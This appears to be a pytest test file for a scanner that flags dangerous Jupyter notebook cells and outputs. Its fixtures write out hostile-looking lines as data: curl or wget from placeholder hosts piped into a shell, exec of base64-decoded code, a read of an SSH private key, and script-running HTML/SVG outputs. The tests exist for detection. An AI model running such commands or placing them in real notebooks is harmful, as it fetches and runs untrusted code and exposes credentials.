"""Notebooks: what their cells do when somebody runs them, and what their outputs do when somebody opens them."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanners.formats import json_document, python, text
from scanners.judge import complete, judge
from scanners.rules.policy import Policy
from tests.craft.reading import scan, unread_reasons

SCANNERS = (json_document.SCANNER, python.SCANNER, text.SCANNER)


def code(source, outputs=()):
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": list(outputs)}


def notebook(*cells):
    return {"nbformat": 4, "metadata": {}, "cells": [each if isinstance(each, dict) else code(each) for each in cells]}


def read(document):
    return scan(json.dumps(document).encode(), "demo.ipynb", scanners=SCANNERS)


def findings(outcome):
    found = judge(outcome.facts, path="demo.ipynb", format=outcome.format, policy=Policy.default())
    return [(finding.rule, finding.severity) for finding in found]


@pytest.mark.parametrize(
    ("cell", "rule", "severity"),
    [
        ("!curl http://x.example/a | sh", "python-runs-programs", "critical"),
        ("    !wget -qO- http://x/a | bash", "python-runs-programs", "critical"),
        ("out = !curl http://x/a | sh", "python-runs-programs", "critical"),
        ("if True:\n    !curl http://x/a | sh\n", "python-runs-programs", "critical"),
        ("%%bash\nset -e\ncurl http://x/a | sh\n", "python-runs-programs", "critical"),
        ("%sx curl http://x/a | sh", "python-runs-programs", "critical"),
        (["import os\n", "os.system('id')"], "python-runs-programs", "medium"),
        ("import base64\nexec(base64.b64decode('aWQ='))", "python-runs-made-code", "high"),
        ("open('/root/.ssh/id_rsa').read()", "python-reads-credentials", "high"),
        ("%time exec(x)", "python-runs-made-code", "medium"),
        ("!pip install a", "python-runs-programs", "low"),
    ],
)
def test_cells_are_read_as_the_program_that_they_are(cell, rule, severity):
    outcome = read(notebook("x = 1", cell, {"cell_type": "markdown", "source": "# import os; os.system('id')"}))
    assert findings(outcome) == [(rule, severity)]
    assert complete(outcome.facts, outcome.account)


@pytest.mark.parametrize(
    "cell",
    [
        "import torch\ntorch.zeros(3)", "%matplotlib inline", "%%time\nx = 1", "x?", "!nvidia-smi", "!git clone https://hf.co/a/b",
        "%%html\n<b>x</b>", "", "a = 5 % 3\nb = not a != 2",
    ],
)  # fmt: skip
def test_ordinary_cells_are_clean(cell):
    outcome = read(notebook(cell))
    assert findings(outcome) == []
    assert complete(outcome.facts, outcome.account)


@pytest.mark.parametrize(
    ("data", "found"),
    [
        ({"application/javascript": ["alert(1)"]}, [("notebook-script", "medium")]),
        ({"text/html": "<SCRIPT>x</script>"}, [("notebook-script", "medium")]),
        ({"image/svg+xml": "<svg onload=x>"}, [("notebook-script", "medium")]),
        ({"text/html": ["<table>", "<td>1</td>"], "text/plain": "<script>"}, []),
    ],
)
def test_outputs_that_a_browser_runs_are_said(data, found):
    assert findings(read(notebook(code("x = 1", [{"output_type": "display_data", "data": data}])))) == found


def test_a_notebook_of_the_third_format_has_its_cells_in_worksheets():
    cell = {"cell_type": "code", "input": "import os\nos.system('id')"}
    assert findings(read({"nbformat": 3, "worksheets": [{"cells": [cell]}]})) == [("python-runs-programs", "medium")]


def test_cells_that_are_no_python_are_not_read():
    assert unread_reasons(read(notebook("print 'two'"))) == {"broken"}


JSON = st.recursive(
    st.one_of(st.none(), st.integers(), st.sampled_from(["code", "!id", "%x", "x = 1"])),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(
            st.sampled_from(["cells", "cell_type", "source", "outputs", "data", "worksheets"]), inner, max_size=4
        ),
    ),
    max_leaves=15,
)


@given(document=JSON)
@settings(max_examples=100, deadline=None)
def test_whatever_the_json_holds_is_read_to_an_outcome(document):
    outcome = read(document)
    assert complete(outcome.facts, outcome.account) or unread_reasons(outcome) or outcome.account.unexplained
